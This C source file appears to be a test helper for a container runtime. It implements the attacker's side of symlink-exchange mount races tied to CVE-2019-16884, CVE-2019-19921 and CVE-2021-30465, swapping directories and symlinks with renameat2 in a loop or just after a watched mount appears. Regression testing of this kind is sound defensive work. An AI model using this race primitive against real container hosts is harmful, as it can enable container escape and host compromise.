/* flip-symlink [--after-mount ROOT] SECONDS DIR NAME OTHER...: the
 * attacker's half of the mount races (CVE-2019-16884, CVE-2019-19921,
 * CVE-2021-30465).
 *
 * Without --after-mount: in DIR, swaps NAME with each OTHER in turn, and
 * back, with renameat2(RENAME_EXCHANGE), in a tight loop: NAME is never
 * missing, only a different file from one moment to the next (a
 * directory, then a symlink, then the directory again...). Ends on SIGTERM
 * or after SECONDS (its own safety net), and prints how many exchanges it
 * made.
 *
 * With --after-mount ROOT: waits until a mount of ROOT (a bind mount's
 * source, as field 4 of a mountinfo line names it) shows in the mountinfo
 * of any process, then swaps NAME with the first OTHER once, and ends. The
 * tests slow the runtime down after each mount (strace's delay_exit) to
 * make that the moment between a mount and what the runtime does next to
 * it. Fails if no such mount shows within SECONDS.
 *
 * Needs only write access to DIR (and, with --after-mount, to read other
 * processes' mountinfo). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void
on_signal (int sig)
{
  (void) sig;
  stop = 1;
}

/* A mountinfo line's field 4, the root of the mount in its filesystem,
 * is `root`. */
static bool
line_has_root (const char *line, const char *root)
{
  const char *p = line;
  for (int field = 1; field < 4; field++)
    {
      p = strchr (p, ' ');
      if (p == NULL)
        return false;
      p++;
    }
  size_t len = strlen (root);
  return strncmp (p, root, len) == 0 && p[len] == ' ';
}

/* Some process other than this one has a mount of `root`. */
static bool
mounted_anywhere (const char *root)
{
  DIR *proc = opendir ("/proc");
  if (proc == NULL)
    return false;
  bool found = false;
  char *line = NULL;
  size_t cap = 0;
  pid_t self = getpid ();
  struct dirent *e;
  while (!found && (e = readdir (proc)) != NULL)
    {
      char *end;
      long pid = strtol (e->d_name, &end, 10);
      if (*end != '\0' || pid <= 0 || pid == self)
        continue;
      char path[64];
      snprintf (path, sizeof path, "/proc/%ld/mountinfo", pid);
      FILE *f = fopen (path, "re");
      if (f == NULL)
        continue;
      while (!found && getline (&line, &cap, f) > 0)
        found = line_has_root (line, root);
      fclose (f);
    }
  free (line);
  closedir (proc);
  return found;
}

static int
exchange (int dirfd, const char *a, const char *b)
{
  if (renameat2 (dirfd, a, dirfd, b, RENAME_EXCHANGE) < 0)
    {
      fprintf (stderr, "flip-symlink: exchange %s and %s: %s\n", a, b, strerror (errno));
      return -1;
    }
  return 0;
}

int
main (int argc, char **argv)
{
  const char *after_mount = NULL;
  if (argc > 2 && strcmp (argv[1], "--after-mount") == 0)
    {
      after_mount = argv[2];
      argv += 2;
      argc -= 2;
    }
  if (argc < 5)
    {
      fprintf (stderr, "usage: flip-symlink [--after-mount ROOT] SECONDS DIR NAME OTHER...\n");
      return 2;
    }
  int dirfd = open (argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dirfd < 0)
    {
      fprintf (stderr, "flip-symlink: open %s: %s\n", argv[2], strerror (errno));
      return 1;
    }
  struct sigaction sa = { .sa_handler = on_signal };
  sigaction (SIGTERM, &sa, NULL);
  sigaction (SIGINT, &sa, NULL);
  sigaction (SIGALRM, &sa, NULL);
  alarm ((unsigned) atoi (argv[1]));

  const char *name = argv[3];
  /* Unbuffered output below: nothing is left to an exit-time flush (a
   * sanitizer runtime may end the process first). */
  if (after_mount)
    {
      while (!stop && !mounted_anywhere (after_mount))
        ;
      if (stop)
        {
          dprintf (2, "flip-symlink: no mount of %s showed\n", after_mount);
          return 1;
        }
      if (exchange (dirfd, name, argv[4]) < 0)
        return 1;
      dprintf (1, "exchanged %s and %s after the mount of %s\n", name, argv[4], after_mount);
      return 0;
    }

  unsigned long long n = 0;
  while (!stop)
    for (int i = 4; i < argc && !stop; i++)
      for (int back = 0; back < 2; back++)
        {
          if (exchange (dirfd, name, argv[i]) < 0)
            return 1;
          n++;
        }
  dprintf (1, "%llu exchanges\n", n);
  return 0;
}
